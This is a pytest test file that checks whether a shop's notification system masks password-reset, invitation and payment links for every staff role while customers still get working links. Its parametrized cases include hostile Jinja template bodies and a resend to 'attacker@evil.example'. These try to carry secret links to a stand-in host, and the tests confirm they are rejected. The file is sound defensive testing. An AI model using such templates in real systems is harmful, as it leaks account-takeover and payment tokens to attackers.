"""Links that log in or pay never reach staff: the message log, a message's page, the
template preview and the outbox monitor show them masked, for every staff role, while
the customer still gets a working link by SMS and e-mail (Atompark emulator, mailbox)."""
from __future__ import annotations

import html
import re
from typing import Any
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select

from core import outbox
from core.customers.invitations import invite_companies_without_users
from core.customers.models import User
from core.outbox import OutboxEvent
from notify import delivery, tasks
from notify.models import Message
from payments.invoices import invoices_of_order
from tests.conftest import login

STAFF_ROLES = ("manager", "head_of_sales", "accountant", "lawyer", "admin")
SECRET_LINK = re.compile(r"https?://[^\s<>\"']+/(?:reset|welcome|pay)/([^\s<>\"'/]+)")
MASK = "••••••"


def tokens_in(text: str) -> set[str]:
    return {token for token in SECRET_LINK.findall(html.unescape(text)) if token != MASK}


@pytest.fixture
def secrets_sent(app: Any, client: Any, db: Any, providers: Any, make_company: Any, make_user: Any,
                 make_staff: Any, confirmed_order: Any) -> dict[str, Any]:
    """A customer and an admin who asked for a password reset, a company invited to its
    cabinet and an invoice with its pay link: every kind of secret, sent for real."""
    company = make_company(phone="+380445550001", email="office@secret-cafe.ua")
    customer = make_user(company, role="owner", email="owner@secret-cafe.ua", phone="+380675550001")
    admin = make_staff("admin", email="boss@distributor.ua", phone="+380675550099")
    make_company(phone="+380675550002", email="new@secret-cafe.ua")  # no users yet: gets an invitation
    invoice = invoices_of_order(db, confirmed_order(customer).id)[0]
    db.commit()
    assert client.post("/forgot", data={"login": "owner@secret-cafe.ua"}).status_code == 302
    assert client.post("/staff/forgot", data={"login": "boss@distributor.ua"}).status_code == 302
    with app.test_request_context():
        assert invite_companies_without_users(db).invited == 1
        db.flush()
        for event_id in db.scalars(select(OutboxEvent.id).where(OutboxEvent.status == "pending")):
            outbox.deliver(db, event_id)  # what the relay does after the commit
    db.commit()
    with app.app_context():
        tasks.send_now(db)
    db.expire_all()
    sms = providers.sms()
    mails = providers.mailbox.messages
    received = [s["text"] for s in sms] + [m.text or "" for m in mails] + [m.html or "" for m in mails]
    return {"customer": customer, "admin": admin, "invoice": invoice, "received": received,
            "tokens": set().union(*(tokens_in(text) for text in received))}


def test_every_secret_goes_out_working_and_is_stored_masked(client, db, secrets_sent):
    tokens = secrets_sent["tokens"]
    received = "\n".join(secrets_sent["received"])
    assert "/reset/" in received and "/welcome/" in received and "/pay/" in received
    assert secrets_sent["invoice"].pay_token in tokens
    messages = list(db.scalars(select(Message)))
    assert {m.template for m in messages} >= {"password_reset", "invitation", "invoice_issued"}
    assert all(m.status == "sent" for m in messages if m.template in ("password_reset", "invitation"))
    for message in messages:
        assert not tokens_in(message.subject + message.body), (message.template, message.body)
    # The links the customer and the admin got open their pages.
    for link in SECRET_LINK.finditer(received):
        path = urlsplit(link.group(0)).path
        assert client.get(path).status_code == 200, path


@pytest.mark.parametrize("role", STAFF_ROLES)
def test_no_staff_role_can_read_a_working_secret_anywhere(app, client, db, make_staff, secrets_sent, role):
    # Also the links minted when the events were raised: they work too, and must not show.
    payload_tokens = {urlsplit(e.payload["link"]).path.rsplit("/", 1)[1]
                      for e in db.scalars(select(OutboxEvent)) if "link" in (e.payload or {})}
    secrets = secrets_sent["tokens"] | payload_tokens
    staff = make_staff(role)
    db.commit()
    assert login(client, staff.email, staff=True).status_code == 302
    pages = ["/staff/", "/staff/messages", "/staff/messages?status=sent", "/staff/outbox"]
    pages += [f"/staff/messages/{m}" for m in db.scalars(select(Message.id))]
    for event in ("password_reset", "invitation", "invoice_issued", "invoice_overdue", "payment_failed"):
        pages += [f"/staff/notify/templates/{event}/{channel}/{language}"
                  for channel in ("sms", "email") for language in ("uk", "en")]
    seen = 0
    for url in pages:
        response = client.get(url)
        assert response.status_code in (200, 403), url
        seen += response.status_code == 200
        page = html.unescape(response.get_data(as_text=True))
        assert not any(secret in page for secret in secrets), url
    preview = client.post("/staff/notify/templates/password_reset/sms/uk/preview", data={"body": "{{ link }}"})
    assert preview.status_code in (200, 403)
    assert not any(secret in preview.get_data(as_text=True) for secret in secrets)
    assert seen  # every role sees something: the check above looked at real pages
    if role == "lawyer":
        assert client.get("/staff/messages").status_code == 403


def test_a_secret_is_not_resent_to_another_address(app, db, secrets_sent):
    message = db.scalar(select(Message).where(Message.template == "password_reset", Message.channel == "email",
                                              Message.recipient == "boss@distributor.ua"))
    message.status = "failed"
    db.flush()
    with app.test_request_context():
        assert delivery.resend(db, message, "attacker@evil.example") == "secret_elsewhere"
        db.refresh(message)
        assert (message.status, message.recipient) == ("failed", "boss@distributor.ua")
        # To the address it was meant for it goes again, with a fresh working link.
        assert delivery.resend(db, message) is None
    assert message.status == "queued" and not tokens_in(message.body)


def test_a_reset_for_a_user_who_is_gone_fails_visibly_and_sends_nothing(app, db, providers, secrets_sent):
    customer = secrets_sent["customer"]
    message = db.scalar(select(Message).where(Message.template == "password_reset", Message.channel == "sms",
                                              Message.recipient == customer.phone))
    db.get(User, customer.id).is_active_flag = False
    message.status = "failed"
    db.flush()
    before = len(providers.sms())
    with app.test_request_context():
        assert delivery.resend(db, message) is None
        db.commit()
        tasks.send_now(db)
    db.refresh(message)
    assert (message.status, message.error_code) == ("failed", "template_error")
    assert len(providers.sms()) == before


def test_the_migration_masks_links_already_in_the_log(tmp_path):
    from alembic import command
    from sqlalchemy import create_engine, text

    from core.cli import alembic_config

    url = f"sqlite:///{tmp_path}/masked.db"
    command.upgrade(alembic_config(url), "0006")
    engine = create_engine(url)
    insert = text("INSERT INTO message (channel, template, language, recipient, subject, body, status, attempts,"
                  " error_code, last_error, next_attempt_at, created_at) VALUES (:channel, :template, 'uk', 'x',"
                  " '', :body, 'sent', 1, '', '', '2026-12-01 10:00:00', '2026-12-01 10:00:00')")
    with engine.begin() as connection:
        connection.execute(insert, {"channel": "sms", "template": "password_reset",
                                    "body": "Новий пароль: https://shop.ua/reset/abc.DEF-123_x (діє 24 год.)"})
        connection.execute(insert, {"channel": "email", "template": "invoice_overdue",
                                    "body": "Оплатити: https://shop.ua/pay/Tok3n_-x\nЗамовлення: https://shop.ua/orders/5"})
    command.upgrade(alembic_config(url), "0009")
    with engine.connect() as connection:
        bodies = list(connection.scalars(text("SELECT body FROM message ORDER BY id")))
    engine.dispose()
    assert bodies == ["Новий пароль: https://shop.ua/reset/•••••• (діє 24 год.)",
                      "Оплатити: https://shop.ua/pay/••••••\nЗамовлення: https://shop.ua/orders/5"]


@pytest.mark.parametrize("body", [
    "Пароль: https://evil.example/?to={{ link }}",
    "Пароль: {{ link|replace('127.0.0.1:5000', 'evil.example') }}",
    "Пароль: {{ link|list|join(' ') }}",
    "{% set copy = link %}Пароль: {{ copy }}",
    "{% macro show(x) %}{{ x }}{% endmacro %}Пароль: {{ show(link) }}",
    "Пароль: https://evil.example/?q={% if 1 %}{{ link }}{% endif %}",
    "Пароль: {{ link }}x",
])
def test_a_template_cannot_carry_a_secret_link_elsewhere(client, db, make_staff, body):
    editor = make_staff("head_of_sales")
    db.commit()
    assert login(client, editor.email, staff=True).status_code == 302
    response = client.post("/staff/notify/templates/password_reset/sms/uk", data={"body": body})
    assert response.status_code == 400
    assert "змінну link можна лише вставити як є, окремим словом" in html.unescape(response.get_data(as_text=True))


def test_a_stored_template_that_misuses_a_secret_sends_nothing(app, db, providers, make_company, make_user):
    from notify.models import MessageTemplate

    company = make_company(phone=None, email=None)
    user = make_user(company, role="owner", email=None, phone="+380675550077")
    db.add(MessageTemplate(event="password_reset", channel="sms", language="uk", subject="",
                           body="Пароль: https://evil.example/?to={{ link }}"))
    with app.test_request_context():
        raised = outbox.emit(db, "user.password_reset_requested", {
            "user": user.ref, "user_id": user.id, "recipient": user.phone, "valid_hours": 24})
        db.flush()
        outbox.deliver(db, raised.id)
    db.commit()
    with app.app_context():
        tasks.send_now(db)
    message = db.scalar(select(Message).where(Message.recipient == "+380675550077"))
    assert (message.status, message.error_code) == ("failed", "template_error")
    assert providers.sms() == []
